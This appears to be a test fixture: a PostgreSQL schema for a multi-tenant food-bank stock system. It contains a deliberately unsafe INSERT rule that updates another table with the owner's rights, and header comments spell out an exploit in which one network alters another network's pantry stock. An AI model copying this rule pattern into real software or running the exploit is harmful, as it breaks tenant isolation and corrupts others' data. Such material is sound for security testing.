-- The rule writes with the table owner's rights: whoever posts a movement changes the stock of the
-- pantry it names.
-- about: movements, stock, post_movement
-- as: hf_foodbank_app
-- exploit: SET fb.network = 'aaaaaaaa-0000-4000-8000-000000000001';
-- exploit: INSERT INTO fb.movements (network_id, pantry_id, food, kilos) VALUES
-- exploit:   (fb.network(), 'bbbbbbbb-0000-4000-8000-000000000002', 'rice', -7000);
-- exploit: SET fb.network = 'bbbbbbbb-0000-4000-8000-000000000001';
-- exploit: SELECT 'kilos: ' || kilos FROM fb.stock;
-- shows: kilos: 777.00
CREATE TABLE fb.movements (
  network_id uuid NOT NULL REFERENCES fb.networks (id),
  id uuid NOT NULL DEFAULT gen_random_uuid(),
  pantry_id uuid NOT NULL,
  food text NOT NULL,
  kilos numeric(8, 2) NOT NULL,
  PRIMARY KEY (network_id, id)
);
ALTER TABLE fb.movements ENABLE ROW LEVEL SECURITY;
ALTER TABLE fb.movements FORCE ROW LEVEL SECURITY;
CREATE POLICY movements_own ON fb.movements USING (network_id = fb.network());
GRANT SELECT, INSERT ON fb.movements TO hf_foodbank_app;
CREATE RULE post_movement AS ON INSERT TO fb.movements DO ALSO
  UPDATE fb.stock SET kilos = stock.kilos + NEW.kilos
  WHERE stock.pantry_id = NEW.pantry_id AND stock.food = NEW.food;
